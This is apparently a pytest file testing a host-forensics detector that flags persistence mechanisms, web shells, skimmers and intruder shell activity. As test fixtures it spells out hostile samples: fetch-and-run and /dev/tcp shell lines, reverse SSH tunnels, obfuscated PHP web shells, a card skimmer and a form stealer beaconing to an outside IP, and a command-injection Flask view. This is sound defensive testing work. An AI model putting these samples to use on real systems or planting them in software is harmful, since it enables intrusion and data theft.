"""What a line starts, where that lies, what it does, and what a file of a web site does: whatever their names."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules
from stopgap.orchestrator.findings.pattern import matching, search
from stopgap.orchestrator.findings.provenance.acts import acts_of
from stopgap.orchestrator.findings.provenance.commands import programs
from stopgap.orchestrator.findings.provenance.mechanisms import MECHANISMS, mechanisms_of
from stopgap.orchestrator.findings.provenance.places import is_hidden, place_of
from stopgap.orchestrator.findings.provenance.served import signs_of_php, signs_of_script
from stopgap.orchestrator.findings.provenance.typed import purposes

from .collection import collected

DIGESTS = "d41d8cd98f00b204e9800998ecf8427e  usr/bin/true\n"
RULES = shipped_rules()


@pytest.mark.parametrize(
    ("line", "started"),
    [
        ("/usr/lib/x >/dev/null 2>&1 &", ("/usr/lib/x",)),
        ("sh -c '/opt/a; exec nohup /opt/b -v'", ("/opt/a", "/opt/b")),
        ("env A=1 nice -n 5 timeout 30 /opt/a", ("/opt/a",)),
        ("sudo -u www-data setsid /opt/a", ("/opt/a",)),
        ("[ -x /opt/a ] && /opt/a || true", ("/opt/a", "true")),
        ("/usr/bin/python3 -u /opt/b.py --x", ("/opt/b.py",)),
        ("python3 -m http.server", ("python3",)),
        (". /opt/env", ("/opt/env",)),
        ("su - anna -c '/opt/a b'", ("/opt/a",)),
        ("cd / && (/opt/a; /opt/b)", ("cd", "/opt/a", "/opt/b")),
        ("busybox sh -c /opt/a", ("/opt/a",)),
        ("echo '/opt/a' > /opt/b", ("echo",)),
    ],
)
def test_wrappers_and_interpreters_are_seen_through(line: str, started: tuple[str, ...]) -> None:
    assert programs(line) == started


@pytest.mark.parametrize("line", ["'" * 5000, "(" * 5000, "sh -c " * 2000, "a=" * 4000, "\\" * 4000, "`" * 4000])
def test_a_line_without_end_starts_few_programs(line: str) -> None:
    assert len(programs(line)) <= 32


def test_places_are_told_apart_and_developers_tools_are_not_hidden() -> None:
    paths = ("/usr/lib/x", "/usr/local/bin/x", "/srv/x", "/dev/shm/x", "/var/spool/x")
    assert [place_of(path) for path in paths] == ["system", "local", "local", "open", "data"]
    dotted = ("/home/a/.nvm/x", "/home/a/.nvm/.x", "/root/.config/.x/y", "/etc/a.d/b")
    assert [is_hidden(path) for path in dotted] == [False, True, True, False]


@pytest.mark.parametrize(
    ("line", "act"),
    [
        ("wget -qO- https://example.net/x | bash", "fetch and run"),
        ("bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'", "shell to elsewhere"),
        ("echo aGk= | base64 -d | sh", "decode"),
        ("(nohup /opt/x &)", "runs on behind"),
        ("export LD_PRELOAD=/usr/lib/x.so", "library before others"),
        ("/usr/bin/ssh -N -R 0.0.0.0:2200:localhost:22 t@203.0.113.64", "tunnel"),
        ("autossh -M 0 -fND 1080 ops@198.51.100.61", "tunnel"),
        ('{"donate-level": 0, "pools": []}', "miner"),
    ],
)
def test_a_line_is_known_by_what_it_does(line: str, act: str) -> None:
    assert act in acts_of(line)


@pytest.mark.parametrize(
    "line", ["ls -l | grep x", "curl -I https://example.com", "base64 -d a > b", "make && ./a", "ssh db ls -R /srv"]
)
def test_daily_work_does_none_of_that(line: str) -> None:
    assert acts_of(line) == ()
    assert purposes(line) == ()


def test_each_mechanism_has_a_name_and_a_pattern_that_some_path_fits() -> None:
    assert len(MECHANISMS) > 80
    for path, name in {
        "/etc/cron.d/x": "cron",
        "/etc/systemd/system/x.service": "systemd unit",
        "/etc/udev/rules.d/x.rules": "udev rule",
        "/etc/apt/apt.conf.d/x": "apt",
        "/root/.bashrc": "shell start file of a person",
        "/etc/pam.d/sshd": "PAM",
        "/home/a/x/.git/hooks/post-merge": "git hook",
        "/etc/kubernetes/manifests/x.yaml": "static pod",
    }.items():
        assert name in {each.name for each in mechanisms_of(path)}
    assert mechanisms_of("/home/a/notes.txt") == ()


@pytest.mark.parametrize("path", [
    "/etc/cron.d/x", "/etc/rsyslog.d/x.conf", "/etc/dnf/plugins/x.conf", "/root/.bashrc", "/etc/\udcff", "",
    "x" * 5000, "/etc/perl/x.pm", "/etc/needrestart/x", "/etc/needrestart/iucode.conf", "/home/a/.config/i3/config",
])  # fmt: skip
def test_all_mechanisms_of_a_file_are_found_in_their_order(path: str) -> None:
    assert matching([each.paths for each in MECHANISMS])(path) == tuple(
        place for place, each in enumerate(MECHANISMS) if search(each.paths, path) is not None
    )


@pytest.mark.parametrize(
    "code",
    [
        b"<?php $k='as'.'se'.'rt'; $k($x);",
        b'<?php $a = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $a($b);',
        b"<?php $f = strrev('metsys'); $f($x);",
        b"<?php $f = $_COOKIE['a']; $f($_COOKIE['b']);",
        b"<?php array_map($_POST['f'], [$_POST['a']]);",
        b"<?php echo `$_GET[c]`;",
        b"<?php new $_GET['c']($_GET['d']);",
        b"<?php include '/tmp/x';",
        b'<?php include "img/a.png";',
        b"<?php file_put_contents($_POST['n'], $_POST['c']);",
    ],
)
def test_php_that_runs_what_it_is_sent_is_seen_whatever_its_words(code: bytes) -> None:
    assert max(sign.weight for sign in signs_of_php(code)) >= 2


@pytest.mark.parametrize(
    "code",
    [
        b"<?php $ids = array_map( 'intval', (array) $_REQUEST['users'] );",
        b"<?php $p = preg_replace( '|^.*/wp-admin/|i', '', $_SERVER['PHP_SELF'] );",
        b"<?php // pass it as `$_POST` please",
        b"<?php include __DIR__ . '/x.php'; $fn = 'strtoupper'; echo $fn('a');",
        b"<?php $db->exec($sql); $x = base64_decode($y);",
    ],
)
def test_php_of_every_day_is_spared(code: bytes) -> None:
    assert list(signs_of_php(code)) == []


def test_a_skimmer_needs_a_card_a_way_out_and_something_encoded() -> None:
    skimmer = b"var c=document.querySelector('[name=cc_number]').value;(new Image()).src=atob('eA==')+btoa(c)"
    assert list(signs_of_script("x.js", skimmer))
    assert not list(signs_of_script("x.js", b"document.querySelector('[name=cc_number]').focus()"))
    assert not list(signs_of_script("x.js", b"fetch('/cart').then(function (r) { return r.json() })"))


def loud(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
    found = judge(collected(tmp_path, {"package-digests": DIGESTS, "configuration": {}, **planted}), RULES).findings
    worst_last = [finding for finding in reversed(found) if finding.severity != "info"]
    return {sighting.about: finding.severity for finding in worst_last for sighting in finding.seen}


def test_a_job_is_low_until_it_leads_to_a_program_of_no_package_among_the_systems_own(tmp_path: Path) -> None:
    body = "0|/usr/lib/cache|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n"
    plain = {"cron": {"/etc/cron.d/a": "1 2 * * * root /usr/local/bin/a\n"}}
    odd = {"cron": {"/etc/cron.d/a": "1 2 * * * root nice /usr/lib/cache\n"}, "bodyfile": body}
    assert loud(tmp_path / "plain", plain) == {"/etc/cron.d/a": "low"}
    assert loud(tmp_path / "odd", odd)["/etc/cron.d/a"] == "medium"


def test_a_file_as_its_package_brought_it_raises_nothing_even_under_another_name(tmp_path: Path) -> None:
    text = "<?php eval($_POST['code']); // a web shell by every word of it\n"
    digests = f"{hashlib.md5(text.encode()).hexdigest()}  usr/share/wordpress/x.php\n"
    assert loud(tmp_path, {"web-code": {"/var/www/html/x.php": text}, "package-digests": digests}) == {}


def test_a_maintainer_script_that_changed_after_its_package_came_is_high(tmp_path: Path) -> None:
    info, script = "/var/lib/dpkg/info", "#!/bin/sh\nset -e\n/usr/lib/x\n"
    body = (
        f"0|{info}/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795000000.0|0.0\n"
        f"0|{info}/cron.postinst|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795090000.0|0.0\n"
        f"0|{info}/cron.prerm|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795000003.0|0.0\n"
    )
    planted = {
        "maintainer-scripts": {f"{info}/cron.{part}": script for part in ("postinst", "prerm")},
        "bodyfile": body,
    }
    assert loud(tmp_path, planted) == {f"{info}/cron.postinst": "high"}


def test_an_administrators_history_is_quiet_and_an_intruders_is_not(tmp_path: Path) -> None:
    daily = "crontab -e\ncat id.pub >> ~/.ssh/authorized_keys\nssh root@spare\nrm latest.tar.gz\nchmod 4755 /opt/x\n"
    assert loud(tmp_path / "daily", {"histories": {"/root/.bash_history": daily}}) == {}
    worse = daily + "wget http://198.51.100.9/k\nhistory -c\ncat /etc/shadow\n"
    assert loud(tmp_path / "worse", {"histories": {"/root/.bash_history": worse}}) == {"/root/.bash_history": "high"}


def test_what_was_planted_right_after_the_image_was_made_is_not_taken_for_a_packages_own(tmp_path: Path) -> None:
    # The package's record is of 90 s before the host's first process, and the program of 20 s after it.
    body = (
        "0|/var/lib/dpkg/info/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795397990.0|0.0\n"
        "0|/usr/bin/new|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795398010.0|0.0\n"
    )
    assert loud(tmp_path / "unknown", {"bodyfile": body}) == {}
    first = "/proc/1/stat:1 (systemd) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 50000 0\n"
    started = {"processes": first, "process-links": "", "clock": "/proc/uptime:2592.0 1.0\n"}
    assert loud(tmp_path / "known", {"bodyfile": body, **started}) == {"/usr/bin/new": "medium"}


def test_what_no_script_of_a_package_names_is_not_a_packages_own_however_near_its_record_it_was_made(
    tmp_path: Path,
) -> None:
    info = "/var/lib/dpkg/info"
    body = f"0|{info}/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795000000.0|0.0\n" + "".join(
        f"0|/usr/lib/cron/{name}|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795000001.0|0.0\n" for name in ("made", "planted")
    )
    scripts = {f"{info}/cron.postinst": "#!/bin/sh\ncp /etc/skel/x /usr/lib/cron/made\n"}
    digests = (
        DIGESTS + f"{hashlib.md5(scripts[f'{info}/cron.postinst'].encode()).hexdigest()}  {info[1:]}/cron.postinst\n"
    )
    planted = {"maintainer-scripts": scripts, "bodyfile": body, "package-digests": digests}
    assert loud(tmp_path, planted) == {"/usr/lib/cron/planted": "medium"}


def test_a_script_of_a_package_that_is_not_installed_is_high(tmp_path: Path) -> None:
    info = "/var/lib/dpkg/info"
    body = (
        f"0|{info}/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795000000.0|0.0\n"
        f"0|{info}/libx.postinst|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795000001.0|0.0\n"
    )
    planted = {"maintainer-scripts": {f"{info}/libx.postinst": "#!/bin/sh\ntrue\n"}, "bodyfile": body}
    assert loud(tmp_path, planted) == {f"{info}/libx.postinst": "high"}


def test_a_setting_of_any_daemon_counts_where_it_names_a_program_of_no_package(tmp_path: Path) -> None:
    body = (
        "0|/usr/lib/notify|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n"
        "0|/usr/share/x.lua|1|-rw-r--r--|0|0|9|1.0|1.0|1.0|0.0\n"
        "0|/usr/share/x.txt|1|-rw-r--r--|0|0|9|1.0|1.0|1.0|0.0\n"
    )
    settings = {
        "/etc/mdadm/mdadm.conf": "MAILADDR root\nPROGRAM /usr/lib/notify\n",
        "/etc/some/daemon.conf": "filter_by_lua_file /usr/share/x.lua;\n",
        "/etc/some/other.conf": "banner /usr/share/x.txt\nlog /var/log/x\n",
        "/etc/some/pool.conf": "env[LD_PRELOAD] = /usr/lib/cache.so\n",
    }
    found = loud(tmp_path, {"configuration": settings, "bodyfile": body})
    found = {path: severity for path, severity in found.items() if path.startswith("/etc/")}
    assert found == {
        "/etc/mdadm/mdadm.conf": "medium", "/etc/some/daemon.conf": "medium", "/etc/some/pool.conf": "high"
    }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("/usr/bin/perl -MSocket -e 'sleep 9'", "medium"),
        ("/usr/bin/python3 -c 'pass'", "medium"),
        ("/usr/bin/node -r dotenv/config /opt/shop/server.js", "low"),
        ("/usr/bin/python3 -m gunicorn -c /opt/shop/gunicorn.py", "low"),
    ],
)
def test_a_program_that_stands_on_the_line_of_a_unit_is_medium(tmp_path: Path, line: str, severity: str) -> None:
    unit = {"/etc/systemd/system/shop.service": f"[Service]\nExecStart={line}\n"}
    digests = DIGESTS + "".join(f"{'0' * 32}  usr/bin/{name}\n" for name in ("perl", "python3", "node"))
    assert loud(tmp_path, {"units": unit, "package-digests": digests}) == {
        "/etc/systemd/system/shop.service": severity
    }


@pytest.mark.parametrize(
    "code",
    [
        b"<?php extract($_REQUEST); $r = $t($v);",
        b"<?php foreach ($_POST as $k => $v) $$k = $v; $f($a);",
        b"<?php $h = getallheaders(); $h['X']($h['Y']);",
        b"<?php $h = GetAllHeaders(); $h['X']($h['Y']);",
        b"<?php $h = apache_request_headers(); $h['X']($h['Y']);",
        b'<?php (new ReflectionFunction($_SERVER["HTTP_X_F"]))->invoke(1);',
        b'<?php array_map($_SERVER["HTTP_X_A"], [1]);',
    ],
)
def test_a_web_shell_without_a_telling_word_is_high_at_least(code: bytes) -> None:
    assert max(sign.weight for sign in signs_of_php(code)) >= 3


@pytest.mark.parametrize(
    "code",
    [
        b"<?php extract($args); echo $title; $callback($title);",
        b"<?php $h = getallheaders(); echo $h['Accept'];",
        b"<?php foreach ($_POST as $k => $v) { $clean[$k] = trim($v); } $f($clean);",
        b"<?php assert(isset($_REQUEST['name'])); assert(is_string($_GET['x']));",
        b"<?php return $this->include('assets/images/logo.svg');",
        b"<?php assert($parent instanceof Node);",
        b"<?php parse_str($_POST['fields'], $fields); $callback($fields);",
    ],
)
def test_php_that_only_looks_alike_is_spared(code: bytes) -> None:
    assert not [sign for sign in signs_of_php(code) if sign.weight >= 2]


def test_on_a_host_with_rpm_a_program_that_no_package_names_is_told_and_a_setting_is_not(tmp_path: Path) -> None:
    digests = f"{'0' * 64}  /usr/bin/true\nnamed  /etc/ld.so.cache\nnamed  /usr/bin/vi\n"
    body = "".join(
        f"0|{path}|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n"
        for path in ("/usr/bin/true", "/usr/bin/vi", "/usr/sbin/netmon", "/etc/made")
    )
    planted = {
        "package-digests": digests,
        "bodyfile": body,
        "cron": {
            "/etc/cron.d/a": "1 2 * * * root /usr/sbin/netmon\n",
            "/etc/cron.d/b": "1 2 * * * root /usr/bin/vi\n",
        },
    }
    assert loud(tmp_path, planted) == {"/usr/sbin/netmon": "medium", "/etc/cron.d/a": "medium"}


@pytest.mark.parametrize(
    ("path", "text", "severity"),
    [
        ("/etc/nginx/snippets/php.conf", 'fastcgi_param PHP_VALUE "auto_prepend_file=/srv/x.txt";', "high"),
        ("/etc/pam.d/login", "auth sufficient pam_rootok.so", "high"),
        ("/etc/apt/apt.conf.d/80proxy", 'Acquire::http::Proxy "http://198.51.100.9:3128";', "medium"),
        ("/etc/rsyslog.d/00-send.conf", "auth,authpriv.* @198.51.100.9:514", "low"),
        ("/root/.gdbinit", "shell /root/.config/.g", "medium"),
        ("/home/anna/.local/share/applications/firefox.desktop", "Exec=/home/anna/.cache/ff %u", "medium"),
        ("/etc/pam.d/su", "auth sufficient pam_rootok.so", "low"),
        ("/etc/apt/apt.conf.d/81proxy", 'Acquire::http::Proxy "http://10.0.0.9:3128";', None),
        ("/etc/rsyslog.d/01-send.conf", "*.* @@logs.example.com:514", None),
        ("/home/anna/.local/share/applications/ide.desktop", "Exec=/home/anna/.local/share/JetBrains/ide %u", None),
    ],
)
def test_settings_of_programs_that_people_use_count_by_what_they_do(
    tmp_path: Path, path: str, text: str, severity: str | None
) -> None:
    artifact = "start-files" if path.startswith(("/root", "/home")) else "configuration"
    found = loud(tmp_path, {"configuration": {}, artifact: {path: f"{text}\n"}})
    assert found == ({path: severity} if severity else {})


def test_an_application_or_a_script_that_gives_away_what_a_visitor_sends_is_told() -> None:
    flask = b"import os\ndef v(request):\n    return os.popen(request.args.get('c')).read()\n"
    assert [sign.weight for sign in signs_of_script("views.py", flask)] == [3]
    assert not list(signs_of_script("views.py", b"def v(request):\n    return find(request.args.get('c'))\n"))
    thief = (
        b"document.forms[0].addEventListener('submit', function () { navigator.sendBeacon('//198.51.100.9/c', x); });"
    )
    assert [sign.weight for sign in signs_of_script("cart.js", thief)] == [2]
    assert not list(signs_of_script("cart.js", thief.replace(b"//198.51.100.9", b"//shop.example.com")))
